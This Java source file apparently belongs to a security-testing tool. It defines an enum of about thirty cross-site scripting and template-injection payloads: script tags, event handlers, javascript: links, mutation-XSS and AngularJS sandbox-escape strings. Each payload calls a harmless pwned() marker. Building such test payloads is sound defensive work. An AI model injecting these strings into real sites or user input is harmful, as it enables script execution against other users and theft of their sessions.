package io.countersign.trial.attack;

import java.util.Arrays;
import java.util.Collection;
import java.util.List;
import java.util.stream.Collectors;

/**
 * A text that becomes a page's own code where it is not escaped: then it calls {@code pwned}, or asks the server for an
 * address of that name. Each says which it is. The first ones are those that a short field has room for.
 */
public enum Payload {
    SCRIPT(Effect.RUNS, "<script>pwned('script')</script>"),
    IMAGE(Effect.RUNS, "<img src=x onerror=pwned('image')>"),
    ANGULAR(Effect.ELSEWHERE, "{{constructor.constructor('pwned(`angular`)')()}}"),
    DOUBLE_QUOTE(Effect.RUNS, "\"><img src=x onerror=pwned('double')>"),
    SVG(Effect.RUNS, "<svg/onload=pwned('svg')>"),
    ADDRESS(Effect.ELSEWHERE, "javascript:pwned('address')"),
    SINGLE_QUOTE(Effect.RUNS, "'><img src=x onerror=pwned('single')>"),
    FETCHED(Effect.RUNS, "<img src=/pwned-image><link rel=stylesheet href=/pwned-link>"),
    DETAILS(Effect.RUNS, "<details open ontoggle=pwned('details')>x</details>"),
    FRAME(Effect.RUNS, "<iframe src=\"javascript:parent.pwned('frame')\"></iframe>"),
    SOURCE_DOCUMENT(Effect.RUNS, "<iframe srcdoc=\"<script>parent.pwned('srcdoc')</script>\"></iframe>"),
    OBJECT(Effect.RUNS, "<object data=/pwned-object></object><embed src=/pwned-embed>"),
    ATTRIBUTE(Effect.ELSEWHERE, "\" autofocus onfocus=pwned('focus') tabindex=1 x=\""),
    CLOSING(Effect.RUNS, "</title></textarea></style></script><script>pwned('closing')</script>"),
    COMMENT(Effect.RUNS, "--><img src=x onerror=pwned('comment')><!--"),
    ANGULAR_EVENT(Effect.WAITS, "<b ng-init=\"$on.constructor('pwned(`event`)')()\" ng-bind=\"7*7\">x</b>"),
    ANGULAR_HTML(Effect.WAITS, "<p ng-include=\"'/pwned-include'\" ng-bind-html-unsafe=\"'x'\">x</p>"),
    LINK(Effect.WAITS, "<a href=\"javascript:pwned('link')\">click me</a>"),
    MARKDOWN(Effect.ELSEWHERE, "[click me](javascript:pwned('markdown')) ![x](x\"onerror=\"pwned('m')\")"),
    STYLE(Effect.RUNS, "<style>@import'/pwned-style';*{background:url(/pwned-background)}</style>"),
    META(Effect.RUNS, "<meta http-equiv=refresh content=\"0;url=/pwned-meta\"><base href=/pwned-base/>"),
    ENTITIES(
            Effect.ELSEWHERE,
            "&lt;img src=x onerror=pwned('entities')&gt; &#60;img src=x onerror=pwned('number')&#62;"),
    WIDE(Effect.ELSEWHERE, "\uff1cimg src=x onerror=pwned('wide')\uff1e \u2039script\u203apwned('angle')"),
    ESCAPED(Effect.ELSEWHERE, "\\u003cimg src=x onerror=pwned('unicode')\\u003e \\x3cscript\\x3epwned('hex')"),
    STRING(Effect.ELSEWHERE, "';pwned('string');//\\';pwned('string')"),
    MUTATION(Effect.ELSEWHERE, "<svg><style><!--</style><img src=x onerror=pwned('mutation')>-->"),
    TABLE(Effect.ELSEWHERE, "<math><mtext><table><mglyph><style><img src=x onerror=pwned('table')>"),
    FORM(Effect.WAITS, "<form action=javascript:pwned('form')><button autofocus>Send</button></form>"),
    FEEL(Effect.ELSEWHERE, "=pwned(\"feel\")"),
    TEMPLATES(
            Effect.ELSEWHERE,
            "{{pwned('template')}} ${pwned('dollar')} #{pwned('hash')} <%= pwned('erb') %> `${pwned('tick')}`");

    private static final List<Payload> ALL = List.of(values());

    /** What becomes of it in the middle of a page that does not escape it. */
    public enum Effect {
        RUNS,
        /** It is there, for whoever clicks on it, or for a page that knows its language. */
        WAITS,
        /** Nothing: it is for an attribute, for a script, or for a page that interprets texts. */
        ELSEWHERE
    }

    private final Effect effect;
    private final String text;

    Payload(Effect effect, String text) {
        this.effect = effect;
        this.text = text;
    }

    public Effect effect() {
        return effect;
    }

    public String text() {
        return text;
    }

    /** As many as a field of so many characters takes, the first ones first, and the field's name at the end. */
    public static String in(String field, int longest) {
        return in(field, longest, ALL);
    }

    /** As above, of some. */
    public static String in(String field, int longest, Collection<Payload> from) {
        var text = new StringBuilder();
        for (var payload : from) {
            if (text.length() + payload.text.length() + field.length() + 3 <= longest) {
                text.append(payload.text).append(' ');
            }
        }
        return text + "(" + field + ")";
    }

    /** All of them in one text. */
    public static String all() {
        return Arrays.stream(values()).map(Payload::text).collect(Collectors.joining(" "));
    }
}
